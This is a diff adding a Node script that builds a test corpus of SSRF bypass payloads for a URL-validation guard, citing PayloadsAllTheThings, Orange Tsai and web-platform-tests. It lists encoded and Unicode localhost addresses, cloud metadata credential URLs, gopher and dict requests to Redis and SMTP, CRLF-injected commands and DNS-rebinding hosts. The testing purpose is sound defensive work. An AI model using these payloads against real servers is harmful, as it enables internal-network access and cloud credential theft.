@@ -1,0 +1,111 @@
+// gen.mjs writes payloads.jsonl: the SSRF payload set of issue #27, each
+// with its class, its source in the public literature, and the host a
+// browser connects to, as Node's URL (the URL Standard) reads the payload
+// against the base https://example.com/ (null when it refuses it).
+//
+//	node testdata/ssrf/gen.mjs > testdata/ssrf/payloads.jsonl
+//
+// Sources (see README.md): PATT = PayloadsAllTheThings, "Server Side
+// Request Forgery" (README.md and SSRF-Cloud-Instances.md); TSAI = Orange
+// Tsai, "A New Era of SSRF - Exploiting URL Parser in Trending Programming
+// Languages!", Black Hat USA 2017; WPT = web-platform-tests
+// url/resources/urltestdata.json and the URL Standard's host parser;
+// RFC6761 = RFC 6761 "Special-Use Domain Names"; CLOUD = the cloud
+// providers' documented metadata endpoints.
+const rows = [];
+const add = (cls, source, ...inputs) => { for (const input of inputs) rows.push({ input, class: cls, source }); };
+const pct = (s) => Array.from(new TextEncoder().encode(s), (b) => b < 0x80 ? String.fromCharCode(b) : "%" + b.toString(16).toUpperCase().padStart(2, "0")).join("");
+
+// Direct targets (already blocked before the issue; kept as a baseline).
+add("direct", "PATT Default Targets", "http://localhost:80", "http://localhost:22", "https://localhost:443",
+  "http://127.0.0.1:80", "http://127.0.0.1:22", "https://127.0.0.1:443", "http://0.0.0.0:80", "http://0.0.0.0:22", "https://0.0.0.0:443");
+add("direct", "PATT Bypass Localhost with IPv6 Notation", "http://[::]:80/", "http://[0000::1]:80/",
+  "http://[0:0:0:0:0:ffff:127.0.0.1]", "http://[::ffff:127.0.0.1]");
+add("direct", "PATT Bypass Localhost with CIDR", "http://127.127.127.127", "http://127.0.1.3", "http://127.0.0.0");
+add("direct", "PATT Bypass Using Rare Address", "http://0/", "http://127.1", "http://127.0.1");
+add("direct", "PATT Bypass Using an Encoded IP Address", "http://2130706433/", "http://3232235521/", "http://3232235777/",
+  "http://2852039166/", "http://0177.0.0.1/");
+add("direct", "PATT Bypass Using Different Encoding", "http://127.0.0.1/%61dmin", "http://127.0.0.1/%2561dmin");
+add("direct", "PATT Bypass Abusing URL Parsing Discrepancy (TSAI)", "http://127.1.1.1:80\\@127.2.2.2:80/",
+  "http://127.1.1.1:80\\@@127.2.2.2:80/", "http://127.1.1.1:80:\\@@127.2.2.2:80/", "http://127.1.1.1:80#\\@127.2.2.2:80/",
+  "http://1.1.1.1 &@2.2.2.2# @3.3.3.3/");
+add("direct", "PATT Exploitation via URL Scheme", "http://127.0.0.1:22", "http://127.0.0.1:443",
+  "gopher://127.0.0.1:6379/_save", "dict://127.0.0.1:6379/SAVE", "ldap://localhost:11211/%0astats%0aquit",
+  "gopher://localhost:25/_MAIL%20FROM:%3Cattacker@example.com%3E%0D%0A", "gopher://0:25/_HELO");
+add("direct", "TSAI", "http://127.0.0.1:11211:80/", "http://foo@127.0.0.1:11211@google.com:80/",
+  "http://foo@127.0.0.1 @google.com/", "http://0\r\n SLAVEOF orange.tw 6379\r\n :6379/");
+add("direct", "WPT urltestdata", "http://0Xc0.0250.01", "http://192.0x00A80001", "http://0xffffffff", "http://[::127.0.0.1]",
+  "http://0x7f.1/", "http://017700000001/", "http://127.0.0.1./", "http://%31%32%37.0.0.1/");
+
+// Class 1: percent-encoded (or raw) Unicode that IDNA maps to an address or to localhost.
+const enclosed = (d) => d === "0" ? "\u24EA" : String.fromCodePoint(0x245F + Number(d)); // ⓪ ① ... ⑨
+const fullwidth = (d) => String.fromCodePoint(0xFF10 + Number(d));
+for (const ip of ["127.0.0.1", "169.254.169.254", "10.0.0.1", "192.168.0.1", "0.0.0.0"]) {
+  add("idna", "ISSUE27 class 1 (TSAI: Unicode full stops; WPT)", "http://" + pct(ip.replaceAll(".", "\u3002")) + "/");
+  add("idna", "ISSUE27 class 1 (WPT: fullwidth full stop)", "http://" + pct(ip.replaceAll(".", "\uFF0E")) + "/");
+  add("idna", "ISSUE27 class 1 (halfwidth ideographic full stop)", "http://" + pct(ip.replaceAll(".", "\uFF61")) + "/");
+  add("idna", "ISSUE27 class 1 (WPT: fullwidth digits)", "http://" + pct(ip.replace(/\d/g, fullwidth)) + "/");
+  add("idna", "PATT Bypass Using Different Encoding: enclosed alphanumerics", "http://" + pct(ip.replace(/\d/g, enclosed)) + "/");
+  add("idna-raw", "PATT enclosed alphanumerics, unencoded (not RFC 3986)", "http://" + ip.replace(/\d/g, enclosed) + "/");
+}
+add("idna", "ISSUE27 class 1 (soft hyphen, zero width space)", "http://local%C2%ADhost/", "http://localhost%E2%80%8B/",
+  "http://%E2%80%8Blocalhost/", "http://loc%E2%80%8Dalhost/", "http://localhost%EF%BB%BF/");
+add("idna", "TSAI (fullwidth letters)", "http://" + pct("ｌｏｃａｌｈｏｓｔ") + "/", "http://" + pct("ⓛⓞⓒⓐⓛⓗⓞⓢⓣ") + "/",
+  "http://" + pct("ＬＯＣＡＬＨＯＳＴ") + ":8080/");
+add("idna", "WPT urltestdata (fullwidth hex IPv4)", "http://%EF%BC%90%EF%BC%B8%EF%BD%83%EF%BC%90%EF%BC%8E%EF%BC%90%EF%BC%92%EF%BC%95%EF%BC%90%EF%BC%8E%EF%BC%90%EF%BC%91");
+add("idna-raw", "TSAI (unencoded Unicode)", "http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/", "http://127。0。0。1/", "http://０Ｘｃ０．０２５０．０１");
+
+// Class 2: a special scheme without "//", or with extra slashes.
+for (const h of ["127.0.0.1", "169.254.169.254", "localhost", "[::1]", "0x7f.1", "10.0.0.1:6379"]) {
+  add("slashes", "ISSUE27 class 2 (WPT: http:foo.com, http:/example.com/)", "http:" + h, "http:/" + h + "/", "http:///" + h + "/",
+    "https:" + h + "/", "ws:" + h, "wss:/" + h, "ftp:" + h);
+}
+add("slashes", "ISSUE27 class 2 (WPT: http:a:b@www.example.com)", "http:evil.com@127.0.0.1", "http:/evil.com@127.0.0.1/",
+  "http:a:b@127.0.0.1", "http:@127.0.0.1", "///127.0.0.1/", "////127.0.0.1/", "///localhost/", "///169.254.169.254/latest/meta-data/");
+add("slashes", "PATT Exploitation via URL Scheme (file://\\/\\/etc/passwd) and WPT (http:\\\\www.google.com\\foo)",
+  "http:\\\\127.0.0.1\\", "http:\\127.0.0.1", "/\\127.0.0.1/", "\\\\127.0.0.1/", "http:/\\127.0.0.1");
+
+// Class 3: IPv4 numbers as the URL Standard reads them.
+add("ipv4-url", "WPT urltestdata (https://0x.0x.0 is 0.0.0.0)", "https://0x.0x.0", "https://0x.0x.0x.0x", "http://0x/",
+  "http://127.0x.0x.1/", "http://0x7f.0x.0x.1/", "http://0x.0x.0x.0x./", "http://10.0x.0x.0x/", "http://0xa9fe.0xa9fe/",
+  "http://127.0.0.0x1/", "http://0x7f.0x/");
+
+// Class 4: cloud metadata endpoints by address.
+add("metadata", "PATT SSRF-Cloud-Instances (AWS)", "http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/",
+  "http://169.254.170.2/v2/credentials/", "http://[::ffff:a9fe:a9fe]/latest/meta-data/", "http://[64:ff9b::a9fe:a9fe]/");
+add("metadata", "PATT SSRF-Cloud-Instances (Oracle Cloud)", "http://192.0.0.192/latest/", "http://192.0.0.192/latest/user-data/",
+  "http://3221225664/latest/");
+add("metadata", "PATT SSRF-Cloud-Instances (Alibaba)", "http://100.100.100.200/latest/meta-data/");
+add("metadata", "CLOUD Azure WireServer", "http://168.63.129.16/machine?comp=goalstate", "http://168.63.129.16:32526/vmSettings",
+  "http://2822734096/");
+add("metadata", "CLOUD Tencent Cloud", "http://169.254.0.23/latest/meta-data/");
+add("metadata", "CLOUD AWS EKS Pod Identity", "http://169.254.170.23/v1/credentials", "http://[fd00:ec2::23]/v1/credentials");
+
+// Class 5: controls in a host; inet_aton's white space; misleading userinfo.
+add("control", "TSAI (glibc getaddrinfo reads up to white space)", "http://127.0.0.1%09foo.google.com/", "http://127.0.0.1%2509foo.google.com/",
+  "http://127.0.0.1%20foo.google.com/", "http://127.0.0.1%0Afoo.google.com/", "http://127.0.0.1\tfoo.google.com/");
+add("control", "ISSUE27 class 5", "http://localhost%00.evil.com/", "http://a%0D%0Ab/", "http://ex%00ample.com/",
+  "http://127.0.0.1%0D%0AHELO%20orange.tw%0D%0A:25/", "http://169.254.169.254%00.evil.com/");
+add("userinfo", "ISSUE27 class 5 (TSAI: userinfo confusion)", "http://127.0.0.1;@evil.com/", "http://127.0.0.1%2F@evil.com/",
+  "http://127.0.0.1%23@evil.com/", "http://google.com%3F@evil.com/", "http://localhost%2F@evil.com/");
+
+// Class 6: input that repair turns into one of the above.
+add("repair", "ISSUE27 class 6", "http://\\127.0.0.1", "/\\/127.0.0.1/", "https:///[::1]/", "http:[::1]", "http:\\\\\\127.0.0.1/",
+  "https:\\/\\127.0.0.1/", " http:/127.0.0.1 ");
+
+// RFC 6761: names that need no DNS.
+add("names", "RFC6761 §6.3", "http://localhost/", "http://LOCALHOST/", "http://localhost./", "http://foo.localhost/",
+  "http://a.b.LocalHost./", "http://%6C%6F%63%61%6C%68%6F%73%74/");
+add("names", "ISSUE26 point 8", "localhost:3000", "localhost:3000/admin", "127.0.0.1:8080");
+
+// Names that need DNS: the dial-time guard's job, not the string check's.
+add("dns", "PATT Bypass Localhost with a Domain Redirect", "http://localtest.me", "http://localh.st", "http://company.127.0.0.1.nip.io",
+  "http://customer1.app.localhost.my.company.127.0.0.1.nip.io", "http://metadata.google.internal/computeMetadata/v1/",
+  "http://metadata/computeMetadata/v1/", "http://make-1.2.3.4-rebind-169.254-169.254-rr.1u.ms");
+
+for (const r of rows) {
+  let browser = null;
+  try { browser = new URL(r.input, "https://example.com/").hostname; } catch {}
+  r.browser = browser;
+  console.log(JSON.stringify(r));
+}
